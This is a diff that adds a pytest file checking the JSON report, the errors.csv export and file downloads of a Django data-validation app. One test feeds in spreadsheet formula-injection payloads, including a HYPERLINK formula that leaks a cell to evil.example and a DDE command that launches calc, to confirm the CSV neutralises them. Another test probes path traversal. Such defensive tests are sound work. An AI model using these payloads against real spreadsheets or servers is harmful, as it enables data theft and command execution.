@@ -1,0 +1,289 @@
+"""The report: report.json and errors.csv, their content, and downloading them."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from pathlib import Path
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from tasks.report import CSV_COLUMNS, SOURCE_COLUMNS, errors_csv
+from tests.conftest import submission_from
+from webapp.models import Submission
+
+pytestmark = pytest.mark.django_db(transaction=True)
+
+EXAMPLES = Path(__file__).parent.parent / "examples" / "demo"
+HEADER = [
+    "validator",
+    "path",
+    "message",
+    "value",
+    "schema_path",
+    "sheet",
+    "row",
+    "column",
+    "header",
+]
+
+
+def post_file(client, path: Path, **fields) -> Submission:
+    with path.open("rb") as handle:
+        response = client.post("/", {"file": handle, **fields})
+    assert response.status_code == 302, response.content.decode()[:2000]
+    return submission_from(response)
+
+
+def post_json(client, data, **fields) -> Submission:
+    upload = SimpleUploadedFile("data.json", json.dumps(data).encode(), "application/json")
+    response = client.post("/", {"file": upload, **fields})
+    assert response.status_code == 302, response.content.decode()[:2000]
+    return submission_from(response)
+
+
+def download(client, submission: Submission, filename: str, task: str = "report"):
+    return client.get(f"/s/{submission.id}/files/{task}/{filename}")
+
+
+def report_of(client, submission: Submission) -> dict:
+    response = download(client, submission, "report.json")
+    assert response.status_code == 200
+    return json.loads(b"".join(response.streaming_content).decode("utf-8"))
+
+
+def csv_rows(client, submission: Submission) -> list[dict[str, str]]:
+    response = download(client, submission, "errors.csv")
+    assert response.status_code == 200
+    text = b"".join(response.streaming_content).decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == HEADER
+    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]
+
+
+def grant(identifier: str, **changes) -> dict:
+    return {
+        "id": identifier,
+        "title": "A grant",
+        "amount": {"value": 100, "currency": "GBP"},
+        "awardDate": "2026-01-01",
+        **changes,
+    }
+
+
+# report.json ------------------------------------------------------------------------------
+
+
+def test_the_report_of_the_invalid_demo_file(client):
+    submission = post_file(client, EXAMPLES / "grants-invalid.json")
+    assert submission.store.output("report").data == {"valid": False, "error_count": 13}
+    report = report_of(client, submission)
+    assert report["valid"] is False
+    assert report["format"] == "json"
+    assert report["profile"] == "demo"
+    assert report["schema"] == {
+        "source": "profiles/demo/grants.schema.json",
+        "draft": "2020-12",
+        "title": "Demo grants data",
+    }
+    assert report["checked_against_schema"] is True
+    assert report["error_count"] == 13
+    assert report["errors_truncated"] is False
+    assert len(report["errors"]) == 13
+    assert report["errors"][0] == {
+        "validator": "required",
+        "path": "/grants/0/amount",
+        "schema_path": "/$defs/grant/properties/amount/required",
+        "message": "“currency” is missing",
+        "value": None,
+    }
+    first_group = report["error_groups"][0]
+    assert (first_group["path_pattern"], first_group["message"], first_group["count"]) == (
+        "/grants/*/amount",
+        "“currency” is missing",
+        2,
+    )
+    assert [e["path"] for e in first_group["examples"]] == ["/grants/0/amount", "/grants/5/amount"]
+    assert sum(group["count"] for group in report["error_groups"]) == 13
+    assert [(f["path"], f["count"]) for f in report["additional_fields"]] == [
+        ("/grants/*/notes", 2),
+        ("/grants/*/amount/vat", 1),
+    ]
+    assert report["stats"]["items"] == 8
+    assert report["sample"] is None
+    assert report["conversion_warnings"] == []
+
+
+def test_the_report_of_a_valid_file_says_valid_with_no_errors(client):
+    submission = post_file(client, EXAMPLES / "grants-valid.json")
+    report = report_of(client, submission)
+    assert (report["valid"], report["error_count"], report["errors"]) == (True, 0, [])
+    assert report["error_groups"] == []
+    assert report["checked_against_schema"] is True
+    assert csv_rows(client, submission) == []
+
+
+def test_without_a_schema_the_report_says_nothing_was_checked_against_one(client):
+    submission = post_json(client, {"anything": [1, 2]}, profile="generic")
+    report = report_of(client, submission)
+    assert report["profile"] == "generic"
+    assert report["checked_against_schema"] is False
+    assert report["schema"] == {"source": ""}
+    assert (report["error_count"], report["errors"], report["additional_fields"]) == (0, [], [])
+    assert report["stats"]["lists"] == [{"path": "/anything", "items": 2}]
+    assert csv_rows(client, submission) == []
+
+
+def test_in_sample_mode_the_report_says_what_was_sampled(client, settings):
+    settings.ASSAY_SAMPLE_ITEMS = 2
+    data = {"grants": [grant("G-001"), grant("G-002"), grant("wrong")]}
+    report = report_of(client, post_json(client, data, sample="on"))
+    assert report["sample"] == {
+        "sample_size": 2,
+        "lists": [{"path": "/grants", "items": 3, "checked": 2}],
+        "sampled": True,
+    }
+    assert (report["valid"], report["error_count"]) == (True, 0)
+
+
+def test_the_report_is_utf8_even_where_the_server_locale_is_not(client, monkeypatch):
+    # Text files written without an encoding would use the locale's: ASCII, here.
+    monkeypatch.setattr(io, "text_encoding", lambda encoding, stacklevel=2: encoding or "ascii")
+    submission = post_file(client, EXAMPLES / "grants-invalid.json")
+    submission.refresh_from_db()
+    assert submission.state == Submission.State.DONE
+    raw = b"".join(download(client, submission, "report.json").streaming_content)
+    assert "“currency” is missing".encode() in raw
+    assert json.loads(raw.decode("utf-8"))["error_count"] == 13
+
+
+# errors.csv -------------------------------------------------------------------------------
+
+
+def test_errors_csv_has_one_row_per_error(client):
+    submission = post_file(client, EXAMPLES / "grants-invalid.json")
+    rows = csv_rows(client, submission)
+    assert len(rows) == 13
+    by_place = {(row["path"], row["validator"]): row for row in rows}
+    assert by_place[("/grants/2/amount/currency", "enum")] == {
+        "validator": "enum",
+        "path": "/grants/2/amount/currency",
+        "message": "is not one of the allowed values: “GBP”, “EUR”, “USD”",
+        "value": "XYZ",
+        "schema_path": "/$defs/grant/properties/amount/properties/currency/enum",
+        "sheet": "",
+        "row": "",
+        "column": "",
+        "header": "",
+    }
+    assert by_place[("/grants/0/amount", "required")]["value"] == ""  # nothing to show
+    assert by_place[("/grants/1/amount/value", "type")]["value"] == "800"
+    # A negative number is a number, not a formula: it stays as it is.
+    assert by_place[("/grants/7/amount/value", "minimum")]["value"] == "-250"
+
+
+def test_errors_csv_of_a_spreadsheet_says_where_each_error_is(client):
+    submission = post_file(client, EXAMPLES / "grants-invalid.xlsx")
+    assert report_of(client, submission)["format"] == "xlsx"
+    rows = csv_rows(client, submission)
+    enum = next(row for row in rows if row["validator"] == "enum")
+    assert (enum["sheet"], enum["row"], enum["column"], enum["header"]) == (
+        "grants",
+        "4",
+        "E",
+        "amount/currency",
+    )
+    code = next(row for row in rows if row["path"] == "/grants/2/classifications/0")
+    assert (code["sheet"], code["header"]) == ("classifications", "classifications/0/code")
+    assert all(row["sheet"] and row["row"] and row["column"] for row in rows)
+
+
+def test_values_that_would_start_a_formula_are_made_text_in_the_csv(client):
+    dangerous = [
+        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+    ]
+    data = {"grants": [grant(value) for value in dangerous] + [grant("G-001")]}
+    submission = post_json(client, data)
+    rows = csv_rows(client, submission)
+    values = {row["path"]: row["value"] for row in rows if row["validator"] == "pattern"}
+    assert values == {f"/grants/{i}/id": f"'{value}" for i, value in enumerate(dangerous)}
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row.values()
+    )
+    # The report document keeps the data as it is.
+    report = report_of(client, submission)
+    assert [error["value"] for error in report["errors"]] == dangerous
+
+
+def test_errors_csv_neutralises_every_column_and_writes_other_values_as_json():
+    errors = [
+        {
+            "validator": "type",
+            "path": "/a",
+            "message": "-message",
+            "value": {"k": ["=x"]},
+            "schema_path": "/properties/a/type",
+            "source": {"sheet": "=Sheet", "row": 5, "column": "@B", "header": "+a"},
+        },
+        {"validator": "type", "path": "/b", "message": "m", "value": 1.5, "schema_path": "/s"},
+        {"validator": "const", "path": "/c", "message": "m", "value": True, "schema_path": "="},
+    ]
+    rows = list(csv.reader(io.StringIO(errors_csv(errors))))
+    assert rows[0] == CSV_COLUMNS + SOURCE_COLUMNS == HEADER
+    assert rows[1] == [
+        "type",
+        "/a",
+        "'-message",
+        '{"k": ["=x"]}',
+        "/properties/a/type",
+        "'=Sheet",
+        "5",
+        "'@B",
+        "'+a",
+    ]
+    assert rows[2] == ["type", "/b", "m", "1.5", "/s", "", "", "", ""]
+    assert rows[3] == ["const", "/c", "m", "true", "'=", "", "", "", ""]
+
+
+def test_errors_csv_keeps_commas_quotes_and_line_breaks_inside_cells():
+    value = 'a, "b"\nc'
+    errors = [{"validator": "enum", "path": "/x", "message": "m", "value": value}]
+    rows = list(csv.reader(io.StringIO(errors_csv(errors))))
+    assert rows[1][3] == value
+    assert len(rows) == 2
+
+
+# Downloads --------------------------------------------------------------------------------
+
+
+def test_the_results_page_links_both_downloads_and_they_are_attachments(client):
+    submission = post_file(client, EXAMPLES / "grants-invalid.json")
+    html = client.get(submission.get_absolute_url()).content.decode()
+    report_section = re.search(r'<section id="report".*?</section>', html, re.S).group(0)
+    base = f"/s/{submission.id}/files/report"
+    assert f'<a href="{base}/report.json" download>The report (JSON)</a>' in report_section
+    assert f'<a href="{base}/errors.csv" download>The errors (CSV)</a>' in report_section
+    json_response = download(client, submission, "report.json")
+    assert json_response["Content-Type"] == "application/json"
+    assert json_response["Content-Disposition"] == 'attachment; filename="report.json"'
+    csv_response = download(client, submission, "errors.csv")
+    assert csv_response["Content-Type"].startswith("text/csv")
+    assert csv_response["Content-Disposition"] == 'attachment; filename="errors.csv"'
+
+
+def test_only_the_files_a_task_offers_can_be_downloaded(client):
+    submission = post_file(client, EXAMPLES / "grants-invalid.json")
+    assert download(client, submission, "other.json").status_code == 404
+    assert download(client, submission, "errors.json", task="report").status_code == 404
+    assert download(client, submission, "report.json", task="no_such_task").status_code == 404
+    assert download(client, submission, "report.json", task="validate").status_code == 404
+    assert client.get(
+        f"/s/{submission.id}/files/report/..%2Fvalidate%2Ferrors.json"
+    ).status_code == (404)
